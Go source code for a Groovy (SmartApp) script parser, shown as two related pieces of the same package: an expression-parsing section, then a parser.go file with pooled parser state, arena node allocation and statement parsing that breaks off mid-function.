		left = &Binary{Op: op, L: left, R: right, Pos_: opTok.Pos}
	}
	if min > 0 {
		return left, nil
	}
	// Ternary / elvis bind loosest.
	switch p.cur().Kind {
	case Question:
		pos := p.next().Pos
		p.skipNewlines()
		thenE, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		p.skipNewlines()
		if _, err := p.expect(Colon); err != nil {
			return nil, err
		}
		p.skipNewlines()
		elseE, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return &Ternary{Cond: left, Then: thenE, Else: elseE, Pos_: pos}, nil
	case Elvis:
		pos := p.next().Pos
		p.skipNewlines()
		elseE, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return &ElvisExpr{Cond: left, Else: elseE, Pos_: pos}, nil
	}
	return left, nil
}

func (p *parser) climbRight(right Expr, min int) (Expr, error) {
	for {
		prec := precOf(p.cur().Kind)
		if prec < min || prec == 0 {
			return right, nil
		}
		var err error
		right, err = p.continueBinary(right, prec)
		if err != nil {
			return nil, err
		}
		if precOf(p.cur().Kind) < min {
			return right, nil
		}
	}
}

func (p *parser) parseUnary() (Expr, error) {
	switch p.cur().Kind {
	case Not, Minus, Plus:
		opTok := p.next()
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		if opTok.Kind == Plus {
			return x, nil
		}
		// Fold -number into a literal.
		if n, ok := x.(*NumLit); ok && opTok.Kind == Minus {
			if n.IsInt {
				return &NumLit{Raw: "-" + n.Raw, Int: -n.Int, IsInt: true, Pos_: opTok.Pos}, nil
			}
			return &NumLit{Raw: "-" + n.Raw, Float: -n.Float, Pos_: opTok.Pos}, nil
		}
		return &Unary{Op: opTok.Kind, X: x, Pos_: opTok.Pos}, nil
	case Incr, Decr:
		// Prefix ++x: treated as x+1 expression (statement form handled
		// in parseSimpleStatement).
		p.next()
		return p.parseUnary()
	}
	return p.parsePostfix()
}

// parsePostfix parses a primary followed by property access, indexing,
// calls and trailing closures.
func (p *parser) parsePostfix() (Expr, error) {
	x, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	for {
		switch p.cur().Kind {
		case Dot, SafeDot, Star:
			safe := p.at(SafeDot)
			// Spread-dot `*.` — treat like plain dot.
			if p.at(Star) {
				if p.peek(1).Kind != Dot {
					return x, nil
				}
				p.next()
			}
			p.next()
			nameTok := p.cur()
			var name string
			switch nameTok.Kind {
			case IDENT, KwCase, KwDefault, KwIn:
				name = nameTok.Text
				p.next()
			case STRING, GSTRING:
				name = nameTok.Text
				p.next()
			default:
				return nil, p.errf("expected property name after '.', found %s", nameTok)
			}
			if p.at(LParen) {
				call := &Call{Receiver: x, Method: name, Safe: safe, Pos_: nameTok.Pos}
				if err := p.parseParenArgs(call); err != nil {
					return nil, err
				}
				x = p.attachTrailingClosure(call)
			} else if p.at(LBrace) && p.closureFollows() {
				call := &Call{Receiver: x, Method: name, Safe: safe, Pos_: nameTok.Pos}
				cl, err := p.parseClosure()
				if err != nil {
					return nil, err
				}
				call.Args = append(call.Args, cl)
				x = call
			} else {
				x = &PropertyGet{Receiver: x, Name: name, Safe: safe, Pos_: nameTok.Pos}
			}
		case LBracket:
			lb := p.next()
			idx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(RBracket); err != nil {
				return nil, err
			}
			x = &IndexGet{Receiver: x, Index: idx, Pos_: lb.Pos}
		case LParen:
			ident, ok := x.(*Ident)
			if !ok {
				return x, nil
			}
			call := &Call{Method: ident.Name, Pos_: ident.Pos_}
			if err := p.parseParenArgs(call); err != nil {
				return nil, err
			}
			x = p.attachTrailingClosure(call)
		case LBrace:
			// Trailing closure on a bare identifier: `preferences { ... }`.
			ident, ok := x.(*Ident)
			if !ok || !p.closureFollows() {
				return x, nil
			}
			call := &Call{Method: ident.Name, Pos_: ident.Pos_}
			cl, err := p.parseClosure()
			if err != nil {
				return nil, err
			}
			call.Args = append(call.Args, cl)
			x = call
		default:
			return x, nil
		}
	}
}

// closureFollows distinguishes a closure literal from a block statement.
// It is called with the current token at '{'. We treat '{' as a closure
// in expression/postfix position always (blocks are never valid there).
func (p *parser) closureFollows() bool { return p.at(LBrace) }

func (p *parser) attachTrailingClosure(call *Call) Expr {
	if p.at(LBrace) {
		cl, err := p.parseClosure()
		if err == nil {
			call.Args = append(call.Args, cl)
		}
	}
	return call
}

func (p *parser) parseParenArgs(call *Call) error {
	if _, err := p.expect(LParen); err != nil {
		return err
	}
	if p.at(RParen) {
		p.next()
		return nil
	}
	if err := p.parseArgListInto(call, true); err != nil {
		return err
	}
	_, err := p.expect(RParen)
	return err
}

// parseArgListInto parses a comma-separated argument list with optional
// named arguments. When paren is false the list ends at a statement
// boundary (NEWLINE/Semi/EOF/RBrace/closing tokens).
func (p *parser) parseArgListInto(call *Call, paren bool) error {
	for {
		p.skipNewlines()
		// Named argument `name: value`.
		if (p.at(IDENT) || p.at(STRING) || p.at(GSTRING)) && p.peek(1).Kind == Colon {
			keyTok := p.next()
			p.next() // colon
			p.skipNewlines()
			v, err := p.parseExpr()
			if err != nil {
				return err
			}
			call.Named = append(call.Named, MapEntry{
				Key:   &StrLit{Value: keyTok.Text, Pos_: keyTok.Pos},
				Value: v,
			})
		} else {
			v, err := p.parseExpr()
			if err != nil {
				return err
			}
			call.Args = append(call.Args, v)
		}
		if p.at(Comma) {
			p.next()
			continue
		}
		if paren {
			p.skipNewlines()
			if p.at(Comma) {
				p.next()
				continue
			}
		}
		return nil
	}
}

func (p *parser) parseClosure() (Expr, error) {
	lb, err := p.expect(LBrace)
	if err != nil {
		return nil, err
	}
	cl := &ClosureExpr{Pos_: lb.Pos}
	// Detect a parameter list: idents (optionally typed, with defaults)
	// followed by '->'.
	save := p.pos
	params, ok := p.tryParseClosureParams()
	if ok {
		cl.Params = params
	} else {
		p.pos = save
	}
	body := &Block{Pos_: lb.Pos}
	for {
		p.skipSeparators()
		if p.at(RBrace) {
			p.next()
			cl.Body = body
			return cl, nil
		}
		if p.at(EOF) {
			return nil, p.errf("unexpected EOF in closure")
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		if st != nil {
			body.Stmts = append(body.Stmts, st)
		}
	}
}

func (p *parser) tryParseClosureParams() ([]Param, bool) {
	var params []Param
	p.skipNewlines()
	for {
		if p.at(Arrow) {
			p.next()
			return params, true
		}
		if !p.at(IDENT) && !p.at(KwDef) {
			return nil, false
		}
		if p.at(KwDef) {
			p.next()
		}
		if p.at(IDENT) && p.peek(1).Kind == IDENT {
			p.next() // type name
		}
		if !p.at(IDENT) {
			return nil, false
		}
		params = append(params, Param{Name: p.next().Text})
		switch p.cur().Kind {
		case Comma:
			p.next()
			p.skipNewlines()
		case Arrow:
		default:
			return nil, false
		}
	}
}

func (p *parser) parsePrimary() (Expr, error) {
	t := p.cur()
	switch t.Kind {
	case IDENT:
		p.next()
		return &Ident{Name: t.Text, Pos_: t.Pos}, nil
	case NUMBER:
		p.next()
		return parseNumLit(t)
	case STRING:
		p.next()
		return &StrLit{Value: t.Text, Pos_: t.Pos}, nil
	case GSTRING:
		p.next()
		return parseGString(t)
	case KwTrue:
		p.next()
		return &BoolLit{Value: true, Pos_: t.Pos}, nil
	case KwFalse:
		p.next()
		return &BoolLit{Value: false, Pos_: t.Pos}, nil
	case KwNull:
		p.next()
		return &NullLit{Pos_: t.Pos}, nil
	case LParen:
		p.next()
		x, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(RParen); err != nil {
			return nil, err
		}
		return x, nil
	case LBracket:
		return p.parseListOrMap()
	case LBrace:
		return p.parseClosure()
	case KwNew:
		p.next()
		ty, err := p.expect(IDENT)
		if err != nil {
			return nil, err
		}
		// Qualified type names: new java.util.Date()
		name := ty.Text
		for p.at(Dot) && p.peek(1).Kind == IDENT {
			p.next()
			name += "." + p.next().Text
		}
		ne := &NewExpr{Type: name, Pos_: t.Pos}
		if p.at(LParen) {
			call := &Call{Method: name, Pos_: t.Pos}
			if err := p.parseParenArgs(call); err != nil {
				return nil, err
			}
			ne.Args = call.Args
		}
		return ne, nil
	}
	return nil, p.errf("unexpected token %s in expression", t)
}

func parseNumLit(t Token) (Expr, error) {
	if strings.Contains(t.Text, ".") {
		f, err := strconv.ParseFloat(t.Text, 64)
		if err != nil {
			return nil, &ParseError{Pos: t.Pos, Msg: "invalid number literal " + t.Text}
		}
		return &NumLit{Raw: t.Text, Float: f, Pos_: t.Pos}, nil
	}
	i, err := strconv.ParseInt(t.Text, 10, 64)
	if err != nil {
		return nil, &ParseError{Pos: t.Pos, Msg: "invalid number literal " + t.Text}
	}
	return &NumLit{Raw: t.Text, Int: i, IsInt: true, Pos_: t.Pos}, nil
}

// parseGString splits a GSTRING token into literal and interpolated parts.
func parseGString(t Token) (Expr, error) {
	g := &GStringLit{Pos_: t.Pos}
	s := t.Text
	var lit strings.Builder
	flush := func() {
		if lit.Len() > 0 {
			g.Parts = append(g.Parts, GStringPart{Text: lit.String()})
			lit.Reset()
		}
	}
	for i := 0; i < len(s); {
		if s[i] == '\\' && i+1 < len(s) && s[i+1] == '$' {
			lit.WriteByte('$')
			i += 2
			continue
		}
		if s[i] == '$' && i+1 < len(s) && s[i+1] == '{' {
			// Find the matching close brace.
			depth := 1
			j := i + 2
			for j < len(s) && depth > 0 {
				switch s[j] {
				case '{':
					depth++
				case '}':
					depth--
				}
				j++
			}
			if depth != 0 {
				return nil, &ParseError{Pos: t.Pos, Msg: "unterminated ${...} interpolation"}
			}
			inner := s[i+2 : j-1]
			ex, err := parseInterpolatedExpr(inner, t.Pos)
			if err != nil {
				return nil, err
			}
			flush()
			g.Parts = append(g.Parts, GStringPart{Expr: ex})
			i = j
			continue
		}
		if s[i] == '$' && i+1 < len(s) && isIdentStart(rune(s[i+1])) {
			// $ident(.ident)* interpolation.
			j := i + 1
			for j < len(s) && isIdentPart(rune(s[j])) {
				j++
			}
			for j < len(s) && s[j] == '.' && j+1 < len(s) && isIdentStart(rune(s[j+1])) {
				j++
				for j < len(s) && isIdentPart(rune(s[j])) {
					j++
				}
			}
			ex, err := parseInterpolatedExpr(s[i+1:j], t.Pos)
			if err != nil {
				return nil, err
			}
			flush()
			g.Parts = append(g.Parts, GStringPart{Expr: ex})
			i = j
			continue
		}
		lit.WriteByte(s[i])
		i++
	}
	flush()
	if len(g.Parts) == 0 {
		g.Parts = append(g.Parts, GStringPart{Text: ""})
	}
	return g, nil
}

func parseInterpolatedExpr(src string, pos Pos) (Expr, error) {
	toks, err := Tokenize(src)
	if err != nil {
		return nil, &ParseError{Pos: pos, Msg: "bad interpolation: " + err.Error()}
	}
	pp := &parser{toks: toks}
	ex, err := pp.parseExpr()
	if err != nil {
		return nil, &ParseError{Pos: pos, Msg: "bad interpolation: " + err.Error()}
	}
	return ex, nil
}

// parseListOrMap parses [a,b] list, [k:v] map, or [:] empty map literals.
func (p *parser) parseListOrMap() (Expr, error) {
	lb, err := p.expect(LBracket)
	if err != nil {
		return nil, err
	}
	p.skipNewlines()
	// Empty map [:].
	if p.at(Colon) && p.peek(1).Kind == RBracket {
		p.next()
		p.next()
		return &MapLit{Pos_: lb.Pos}, nil
	}
	// Empty list [].
	if p.at(RBracket) {
		p.next()
		return &ListLit{Pos_: lb.Pos}, nil
	}
	// Decide map vs list: a key followed by ':' means map.
	isMap := (p.at(IDENT) || p.at(STRING) || p.at(GSTRING) || p.at(NUMBER)) && p.peek(1).Kind == Colon
	if isMap {
		m := &MapLit{Pos_: lb.Pos}
		for {
			p.skipNewlines()
			keyTok := p.cur()
			var key Expr
			switch keyTok.Kind {
			case IDENT, STRING:
				key = &StrLit{Value: keyTok.Text, Pos_: keyTok.Pos}
				p.next()
			case GSTRING:
				p.next()
				k, err := parseGString(keyTok)
				if err != nil {
					return nil, err
				}
				key = k
			case NUMBER:
				p.next()
				k, err := parseNumLit(keyTok)
				if err != nil {
					return nil, err
				}
				key = k
			case LParen:
				p.next()
				k, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				if _, err := p.expect(RParen); err != nil {
					return nil, err
				}
				key = k
			default:
				return nil, p.errf("bad map key %s", keyTok)
			}
			if _, err := p.expect(Colon); err != nil {
				return nil, err
			}
			p.skipNewlines()
			v, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			m.Entries = append(m.Entries, MapEntry{Key: key, Value: v})
			p.skipNewlines()
			if p.at(Comma) {
				p.next()
				p.skipNewlines()
				if p.at(RBracket) {
					break
				}
				continue
			}
			break
		}
		p.skipNewlines()
		if _, err := p.expect(RBracket); err != nil {
			return nil, err
		}
		return m, nil
	}
	l := &ListLit{Pos_: lb.Pos}
	for {
		p.skipNewlines()
		v, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		l.Elems = append(l.Elems, v)
		p.skipNewlines()
		if p.at(Comma) {
			p.next()
			p.skipNewlines()
			if p.at(RBracket) {
				break
			}
			continue
		}
		break
	}
	p.skipNewlines()
	if _, err := p.expect(RBracket); err != nil {
		return nil, err
	}
	return l, nil
}
