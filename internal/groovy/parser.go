package groovy

import (
	"fmt"
	"strconv"
	"strings"
	"sync"
)

// ParseError describes a syntax error with its source position.
type ParseError struct {
	Pos Pos
	Msg string
}

func (e *ParseError) Error() string { return fmt.Sprintf("parse error at %s: %s", e.Pos, e.Msg) }

// tokenPool recycles token buffers across parses: tokens are dead once
// Parse returns (the AST references only substrings of src), so the
// buffer — the largest single allocation of a parse — is reusable.
var tokenPool sync.Pool

// parserPool recycles parser shells: the token buffer slot and the
// scratch stacks keep their capacity across parses. The arena is NOT
// reused — putParser zeroes it, abandoning the blocks to the AST that
// references them. (Carrying partially-filled blocks across parses was
// measured slower: a block stays reachable while any AST using it lives,
// so cross-parse blocks chain otherwise-dead ASTs together and inflate
// the GC's live set.)
var parserPool sync.Pool

func getParser(toks []Token) *parser {
	p, _ := parserPool.Get().(*parser)
	if p == nil {
		p = &parser{
			exprScratch:  make([]Expr, 0, 16),
			stmtScratch:  make([]Stmt, 0, 32),
			entryScratch: make([]MapEntry, 0, 8),
		}
	}
	p.toks = toks
	p.pos = 0
	return p
}

func putParser(p *parser) {
	p.toks = nil
	p.ast = nodeArena{}
	p.exprScratch = p.exprScratch[:0]
	p.stmtScratch = p.stmtScratch[:0]
	p.entryScratch = p.entryScratch[:0]
	p.partScratch = p.partScratch[:0]
	p.paramScratch = p.paramScratch[:0]
	parserPool.Put(p)
}

// Parse parses a SmartApp Groovy source file into a Script.
func Parse(src string) (*Script, error) {
	bufp, _ := tokenPool.Get().(*[]Token)
	if bufp == nil {
		bufp = new([]Token)
	}
	toks, err := appendTokens((*bufp)[:0], src)
	*bufp = toks[:0]
	defer tokenPool.Put(bufp)
	if err != nil {
		return nil, err
	}
	p := getParser(toks)
	defer putParser(p)
	script := &Script{
		Stmts:   make([]Stmt, 0, 24),
		Methods: make(map[string]*MethodDecl, 8),
	}
	for !p.at(EOF) {
		p.skipSeparators()
		if p.at(EOF) {
			break
		}
		st, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		if st == nil {
			continue
		}
		if m, ok := st.(*MethodDecl); ok {
			script.Methods[m.Name] = m
		}
		script.Stmts = append(script.Stmts, st)
	}
	return script, nil
}

// MustParse parses src and panics on error. Intended for tests and
// embedded corpus apps that are known to be well-formed.
func MustParse(src string) *Script {
	s, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return s
}

// parser consumes the token slice. Nodes come from the per-type arenas in
// ast (see arena.go); variable-length children (argument lists, block
// statement lists, map entries, GString parts) are accumulated on the
// scratch stacks and sealed into slab-backed slices when complete, so a
// parse performs a handful of block allocations instead of one per node.
// Backtracking (p.pos = save) may abandon arena nodes; they are simply
// dead space in their block.
type parser struct {
	toks []Token
	pos  int

	ast nodeArena

	exprScratch  []Expr
	stmtScratch  []Stmt
	entryScratch []MapEntry
	partScratch  []GStringPart
	paramScratch []Param
	gsBuf        []byte // escaped-$ segment accumulator for parseGString
}

func (p *parser) cur() Token     { return p.toks[p.pos] }
func (p *parser) at(k Kind) bool { return p.toks[p.pos].Kind == k }

func (p *parser) peek(n int) Token {
	if p.pos+n >= len(p.toks) {
		return p.toks[len(p.toks)-1]
	}
	return p.toks[p.pos+n]
}

func (p *parser) next() Token {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) expect(k Kind) (Token, error) {
	if !p.at(k) {
		return Token{}, p.errf("expected %s, found %s", k, p.cur())
	}
	return p.next(), nil
}

func (p *parser) errf(format string, args ...any) error {
	return &ParseError{Pos: p.cur().Pos, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) skipSeparators() {
	for p.at(NEWLINE) || p.at(Semi) {
		p.next()
	}
}

// skipNewlines skips NEWLINE tokens only (used where a statement cannot
// end, e.g. after `else`).
func (p *parser) skipNewlines() {
	for p.at(NEWLINE) {
		p.next()
	}
}

// ---------- arena constructors ----------

func (p *parser) newIdent(name string, pos Pos) *Ident {
	n := p.ast.idents.alloc(24)
	n.Name, n.Pos_ = name, pos
	return n
}

func (p *parser) newStrLit(v string, pos Pos) *StrLit {
	n := p.ast.strs.alloc(16)
	n.Value, n.Pos_ = v, pos
	return n
}

func (p *parser) newBoolLit(v bool, pos Pos) *BoolLit {
	n := p.ast.bools.alloc(4)
	n.Value, n.Pos_ = v, pos
	return n
}

func (p *parser) newCall(pos Pos) *Call {
	n := p.ast.calls.alloc(16)
	n.Pos_ = pos
	return n
}

func (p *parser) newBinary(op Kind, l, r Expr, pos Pos) *Binary {
	n := p.ast.binaries.alloc(4)
	n.Op, n.L, n.R, n.Pos_ = op, l, r, pos
	return n
}

func (p *parser) newBlock(pos Pos) *Block {
	n := p.ast.blocks.alloc(8)
	n.Pos_ = pos
	return n
}

// ---------- Statements ----------

func (p *parser) parseStatement() (Stmt, error) {
	switch p.cur().Kind {
	case KwImport:
		// Consume the whole import line.
		for !p.at(NEWLINE) && !p.at(Semi) && !p.at(EOF) {
			p.next()
		}
		return nil, nil
	case KwDef:
		return p.parseDefStatement()
	case KwIf:
		return p.parseIf()
	case KwSwitch:
		return p.parseSwitch()
	case KwReturn:
		return p.parseReturn()
	case KwFor:
		return p.parseFor()
	case KwWhile:
		return p.parseWhile()
	case KwBreak:
		t := p.next()
		return &BreakStmt{Pos_: t.Pos}, nil
	case KwContinue:
		t := p.next()
		return &ContinueStmt{Pos_: t.Pos}, nil
	case LBrace:
		return p.parseBlock()
	case IDENT:
		// Access modifiers before def: `private def foo() {...}`.
		if isModifier(p.cur().Text) && (p.peek(1).Kind == KwDef || p.peek(1).Kind == IDENT) {
			p.next()
			return p.parseStatement()
		}
		// Labeled statement / DSL entry such as `action: [GET: "x"]` in
		// web-service mappings: skip the label and parse the rest.
		if p.peek(1).Kind == Colon && p.peek(2).Kind != RBracket {
			p.next()
			p.next()
			p.skipNewlines()
			return p.parseStatement()
		}
		// Typed declaration: `String s = ...` / `int i = ...`.
		if p.peek(1).Kind == IDENT && p.peek(2).Kind == Assign {
			p.next() // discard type
			return p.parseDeclAfterDef()
		}
		// Typed method declaration: `void updated() { ... }` — treated as def.
		if isTypeName(p.cur().Text) && p.peek(1).Kind == IDENT && p.peek(2).Kind == LParen {
			p.next()
			return p.parseMethodDecl()
		}
	}
	return p.parseSimpleStatement()
}

func isModifier(s string) bool {
	switch s {
	case "private", "public", "protected", "static", "final":
		return true
	}
	return false
}

func isTypeName(s string) bool {
	switch s {
	case "void", "String", "Integer", "int", "Boolean", "boolean",
		"Double", "double", "Long", "long", "Object", "Map", "List",
		"BigDecimal", "Date", "Number", "float", "Float":
		return true
	}
	return false
}

// parseDefStatement handles both `def name(params) { ... }` (method) and
// `def x [= expr]` (declaration).
func (p *parser) parseDefStatement() (Stmt, error) {
	if _, err := p.expect(KwDef); err != nil {
		return nil, err
	}
	if p.at(IDENT) && p.peek(1).Kind == LParen {
		return p.parseMethodDecl()
	}
	return p.parseDeclAfterDef()
}

func (p *parser) parseDeclAfterDef() (Stmt, error) {
	nameTok, err := p.expect(IDENT)
	if err != nil {
		return nil, err
	}
	d := p.ast.decls.alloc(4)
	d.Name, d.Pos_ = nameTok.Text, nameTok.Pos
	if p.at(Assign) {
		p.next()
		p.skipNewlines()
		d.Init, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	return d, nil
}

func (p *parser) parseMethodDecl() (Stmt, error) {
	nameTok, err := p.expect(IDENT)
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	start := len(p.paramScratch)
	bail := func(err error) (Stmt, error) {
		p.paramScratch = p.paramScratch[:start]
		return nil, err
	}
	for !p.at(RParen) {
		p.skipNewlines()
		// Optional type name before the parameter name.
		if p.at(IDENT) && p.peek(1).Kind == IDENT {
			p.next()
		}
		pn, err := p.expect(IDENT)
		if err != nil {
			return bail(err)
		}
		param := Param{Name: pn.Text}
		if p.at(Assign) {
			p.next()
			param.Default, err = p.parseExpr()
			if err != nil {
				return bail(err)
			}
		}
		p.paramScratch = append(p.paramScratch, param)
		if p.at(Comma) {
			p.next()
		}
	}
	if _, err := p.expect(RParen); err != nil {
		return bail(err)
	}
	p.skipNewlines()
	params := p.ast.params.seal(p.paramScratch[start:])
	p.paramScratch = p.paramScratch[:start]
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	m := p.ast.methods.alloc(8)
	m.Name, m.Params, m.Body, m.Pos_ = nameTok.Text, params, body, nameTok.Pos
	return m, nil
}

func (p *parser) parseBlock() (*Block, error) {
	lb, err := p.expect(LBrace)
	if err != nil {
		return nil, err
	}
	blk := p.newBlock(lb.Pos)
	start := len(p.stmtScratch)
	for {
		p.skipSeparators()
		if p.at(RBrace) {
			p.next()
			blk.Stmts = p.ast.stmts.seal(p.stmtScratch[start:])
			p.stmtScratch = p.stmtScratch[:start]
			return blk, nil
		}
		if p.at(EOF) {
			p.stmtScratch = p.stmtScratch[:start]
			return nil, p.errf("unexpected EOF in block")
		}
		st, err := p.parseStatement()
		if err != nil {
			p.stmtScratch = p.stmtScratch[:start]
			return nil, err
		}
		if st != nil {
			p.stmtScratch = append(p.stmtScratch, st)
		}
	}
}

// parseBlockOrSingle parses either a brace block or a single statement
// (wrapping it into a Block), as allowed after if/else/for/while.
func (p *parser) parseBlockOrSingle() (*Block, error) {
	p.skipNewlines()
	if p.at(LBrace) {
		return p.parseBlock()
	}
	st, err := p.parseStatement()
	if err != nil {
		return nil, err
	}
	blk := p.newBlock(st.Position())
	blk.Stmts = p.ast.stmts.seal([]Stmt{st})
	return blk, nil
}

func (p *parser) parseIf() (Stmt, error) {
	kw, _ := p.expect(KwIf)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	then, err := p.parseBlockOrSingle()
	if err != nil {
		return nil, err
	}
	st := p.ast.ifs.alloc(4)
	st.Cond, st.Then, st.Pos_ = cond, then, kw.Pos
	// An `else` may follow on the same or the next line.
	save := p.pos
	p.skipSeparators()
	if p.at(KwElse) {
		p.next()
		p.skipNewlines()
		if p.at(KwIf) {
			elseIf, err := p.parseIf()
			if err != nil {
				return nil, err
			}
			st.Else = elseIf
		} else {
			blk, err := p.parseBlockOrSingle()
			if err != nil {
				return nil, err
			}
			st.Else = blk
		}
	} else {
		p.pos = save
	}
	return st, nil
}

func (p *parser) parseSwitch() (Stmt, error) {
	kw, _ := p.expect(KwSwitch)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	subj, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	p.skipNewlines()
	if _, err := p.expect(LBrace); err != nil {
		return nil, err
	}
	st := &SwitchStmt{Subject: subj, Pos_: kw.Pos}
	for {
		p.skipSeparators()
		if p.at(RBrace) {
			p.next()
			return st, nil
		}
		switch p.cur().Kind {
		case KwCase:
			p.next()
			val, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(Colon); err != nil {
				return nil, err
			}
			body, err := p.parseCaseBody()
			if err != nil {
				return nil, err
			}
			st.Cases = append(st.Cases, SwitchCase{Value: val, Body: body})
		case KwDefault:
			p.next()
			if _, err := p.expect(Colon); err != nil {
				return nil, err
			}
			body, err := p.parseCaseBody()
			if err != nil {
				return nil, err
			}
			st.Default = body
		default:
			return nil, p.errf("expected case or default in switch, found %s", p.cur())
		}
	}
}

func (p *parser) parseCaseBody() (*Block, error) {
	blk := p.newBlock(p.cur().Pos)
	start := len(p.stmtScratch)
	for {
		p.skipSeparators()
		if p.at(KwCase) || p.at(KwDefault) || p.at(RBrace) || p.at(EOF) {
			blk.Stmts = p.ast.stmts.seal(p.stmtScratch[start:])
			p.stmtScratch = p.stmtScratch[:start]
			return blk, nil
		}
		st, err := p.parseStatement()
		if err != nil {
			p.stmtScratch = p.stmtScratch[:start]
			return nil, err
		}
		if st != nil {
			p.stmtScratch = append(p.stmtScratch, st)
		}
	}
}

func (p *parser) parseReturn() (Stmt, error) {
	kw, _ := p.expect(KwReturn)
	st := p.ast.returns.alloc(4)
	st.Pos_ = kw.Pos
	if p.at(NEWLINE) || p.at(Semi) || p.at(RBrace) || p.at(EOF) {
		return st, nil
	}
	v, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	st.Value = v
	return st, nil
}

func (p *parser) parseFor() (Stmt, error) {
	kw, _ := p.expect(KwFor)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	st := &ForStmt{Pos_: kw.Pos}
	// for (x in iterable) / for (def x in iterable)
	save := p.pos
	if p.at(KwDef) {
		p.next()
	} else if p.at(IDENT) && p.peek(1).Kind == IDENT && p.peek(2).Kind == KwIn {
		p.next() // type name
	}
	if p.at(IDENT) && p.peek(1).Kind == KwIn {
		name := p.next().Text
		p.next() // in
		it, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(RParen); err != nil {
			return nil, err
		}
		body, err := p.parseBlockOrSingle()
		if err != nil {
			return nil, err
		}
		st.Var, st.Iterable, st.Body = name, it, body
		return st, nil
	}
	p.pos = save
	// C-style loop.
	if !p.at(Semi) {
		init, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		st.Init = init
	}
	if _, err := p.expect(Semi); err != nil {
		return nil, err
	}
	if !p.at(Semi) {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		st.Cond = cond
	}
	if _, err := p.expect(Semi); err != nil {
		return nil, err
	}
	if !p.at(RParen) {
		post, err := p.parseSimpleStatement()
		if err != nil {
			return nil, err
		}
		st.Post = post
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	body, err := p.parseBlockOrSingle()
	if err != nil {
		return nil, err
	}
	st.Body = body
	return st, nil
}

func (p *parser) parseWhile() (Stmt, error) {
	kw, _ := p.expect(KwWhile)
	if _, err := p.expect(LParen); err != nil {
		return nil, err
	}
	cond, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(RParen); err != nil {
		return nil, err
	}
	body, err := p.parseBlockOrSingle()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{Cond: cond, Body: body, Pos_: kw.Pos}, nil
}

// parseSimpleStatement parses expression statements, assignments, and
// paren-free command calls.
func (p *parser) parseSimpleStatement() (Stmt, error) {
	pos := p.cur().Pos
	x, err := p.parseCommandExpr()
	if err != nil {
		return nil, err
	}
	switch p.cur().Kind {
	case Assign, PlusAssign, MinusAssign, StarAssign, SlashAssign:
		op := p.next().Kind
		p.skipNewlines()
		v, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		switch x.(type) {
		case *Ident, *PropertyGet, *IndexGet:
		default:
			return nil, &ParseError{Pos: pos, Msg: "invalid assignment target"}
		}
		st := p.ast.assigns.alloc(4)
		st.Target, st.Op, st.Value, st.Pos_ = x, op, v, pos
		return st, nil
	case Incr, Decr:
		op := p.next().Kind
		delta := p.ast.nums.alloc(8)
		delta.Raw, delta.Int, delta.IsInt, delta.Pos_ = "1", 1, true, pos
		binOp := Plus
		if op == Decr {
			binOp = Minus
		}
		st := p.ast.assigns.alloc(4)
		st.Target, st.Op, st.Value, st.Pos_ = x, Assign, p.newBinary(binOp, x, delta, pos), pos
		return st, nil
	}
	st := p.ast.exprStmts.alloc(12)
	st.X, st.Pos_ = x, pos
	return st, nil
}

// ---------- Expressions ----------

// parseCommandExpr parses an expression, allowing the paren-free command
// syntax at the head (`input "x", "y"`, `log.debug "msg"`, `runIn 60, h`).
func (p *parser) parseCommandExpr() (Expr, error) {
	// Prefix-unary statements (e.g. `!x` alone) fall back to parseExpr.
	if !p.at(IDENT) {
		return p.parseExpr()
	}
	head, err := p.parsePostfix()
	if err != nil {
		return nil, err
	}
	if p.startsCommandArg() {
		callee, ok := calleeOf(head)
		if ok {
			call := p.newCall(head.Position())
			call.Receiver, call.Method = callee.recv, callee.name
			if err := p.parseArgListInto(call, false); err != nil {
				return nil, err
			}
			return p.continueBinary(call, 0)
		}
	}
	return p.continueBinary(head, 0)
}

type calleeInfo struct {
	recv Expr
	name string
}

func calleeOf(e Expr) (calleeInfo, bool) {
	switch n := e.(type) {
	case *Ident:
		return calleeInfo{nil, n.Name}, true
	case *PropertyGet:
		return calleeInfo{n.Receiver, n.Name}, true
	}
	return calleeInfo{}, false
}

// startsCommandArg reports whether the current token can begin the first
// argument of a paren-free command call.
func (p *parser) startsCommandArg() bool {
	switch p.cur().Kind {
	case STRING, GSTRING, NUMBER, KwTrue, KwFalse, KwNull, LBracket:
		return true
	case IDENT:
		// `foo bar` is a call; but `foo bar = 1` was handled as a typed
		// declaration before we got here, so IDENT is safe.
		// Named first argument `title: "..."` also starts with IDENT.
